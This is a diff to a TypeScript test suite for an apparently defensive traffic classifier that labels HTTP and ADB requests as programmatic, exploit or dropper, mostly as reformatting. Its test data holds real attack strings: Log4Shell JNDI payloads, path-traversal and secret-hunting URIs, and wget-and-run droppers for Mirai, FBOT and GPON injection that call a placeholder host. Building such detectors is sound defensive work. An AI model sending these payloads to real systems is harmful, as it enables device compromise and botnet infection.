@@ -6,26 +6,47 @@ const ua = (v: string) => ({ Host: 'example.com', 'User-Agent': v });
 
 describe('httpSignals', () => {
   it('should call HTTP libraries, tools and scanners programmatic, and browsers not', () => {
-    for (const tool of ['curl/8.5.0', 'python-requests/2.32.3', 'Go-http-client/1.1', 'Mozilla/5.0 zgrab/0.x', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Hello, World']) {
+    for (const tool of [
+      'curl/8.5.0',
+      'python-requests/2.32.3',
+      'Go-http-client/1.1',
+      'Mozilla/5.0 zgrab/0.x',
+      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
+      'Hello, World',
+    ]) {
       assert.equal(httpSignals('GET', '/', ua(tool)).programmatic, true, tool);
     }
     assert.equal(httpSignals('GET', '/', { Host: 'x' }).programmatic, true, 'no User-Agent at all');
-    assert.equal(httpSignals('GET', '/', { 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36' }).programmatic, false);
+    assert.equal(
+      httpSignals('GET', '/', {
+        'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
+      }).programmatic,
+      false,
+    );
   });
 
   it('should call exploit and secret-hunting paths malicious, and ordinary pages not', () => {
-    for (const uri of ['/.env', '/cgi-bin/.%2e/.%2e/.%2e/bin/sh', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D', '/.git/config']) {
+    for (const uri of [
+      '/.env',
+      '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
+      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+      '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
+      '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
+      '/.git/config',
+    ]) {
       assert.equal(httpSignals('GET', uri, ua('curl/8')).exploit, true, uri);
     }
     for (const uri of ['/', '/robots.txt', '/favicon.ico', '/blog/environment-tips', '/?utm_source=abc']) {
       assert.equal(httpSignals('GET', uri, ua('curl/8')).exploit, false, uri);
     }
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload as attackers send it, not a template
     assert.equal(httpSignals('GET', '/', { 'User-Agent': '${jndi:ldap://198.51.100.7/a}' }).exploit, true, 'payload in a header');
   });
 
   it('should see droppers in the URI and in the body', () => {
     assert.equal(httpSignals('GET', '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws', ua('Hello, World')).dropper, true);
-    const body = 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.7/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0';
+    const body =
+      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.7/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0';
     assert.equal(httpSignals('POST', '/GponForm/diag_Form?images/', ua('Hello, World'), body).dropper, true);
     assert.equal(httpSignals('GET', '/.env', ua('curl/8')).dropper, false);
   });
@@ -41,10 +62,16 @@ describe('httpSignals', () => {
 
 describe('adbSignals', () => {
   it('should find droppers and name the families it knows', () => {
-    assert.deepEqual(adbSignals('shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh'), { dropper: true, family: 'MIRAI' });
+    assert.deepEqual(adbSignals('shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh'), {
+      dropper: true,
+      family: 'MIRAI',
+    });
     assert.deepEqual(adbSignals('shell:pm install /data/local/tmp/ufo.apk'), { dropper: true, family: undefined });
     assert.deepEqual(adbSignals('shell:am start -n com.ufo.miner/com.example.test.MainActivity'), { dropper: true, family: 'ADB_MINER' });
-    assert.deepEqual(adbSignals('shell:cd /data/local/tmp; busybox wget http://h/fbot.arm7 -O fbot; chmod 777 fbot; ./fbot adb.arm7'), { dropper: true, family: 'FBOT' });
+    assert.deepEqual(adbSignals('shell:cd /data/local/tmp; busybox wget http://h/fbot.arm7 -O fbot; chmod 777 fbot; ./fbot adb.arm7'), {
+      dropper: true,
+      family: 'FBOT',
+    });
     assert.deepEqual(adbSignals('shell:getprop ro.product.model'), { dropper: false, family: undefined });
     assert.deepEqual(adbSignals('shell:ls -la /data/local/tmp'), { dropper: false, family: undefined });
   });
@@ -52,9 +79,15 @@ describe('adbSignals', () => {
 
 describe('deviceFromUserAgent', () => {
   const cases: ReadonlyArray<readonly [string, { os: string; version: string } | undefined]> = [
-    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36', { os: 'WINDOWS', version: '10' }],
+    [
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
+      { os: 'WINDOWS', version: '10' },
+    ],
     ['Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36', { os: 'WINDOWS', version: '7' }],
-    ['Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36', { os: 'ANDROID', version: '14' }],
+    [
+      'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36',
+      { os: 'ANDROID', version: '14' },
+    ],
     ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15', { os: 'IOS', version: '17.5.1' }],
     ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15', { os: 'MACOS', version: '10.15.7' }],
     ['Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36', { os: 'CHROME_OS', version: '' }],
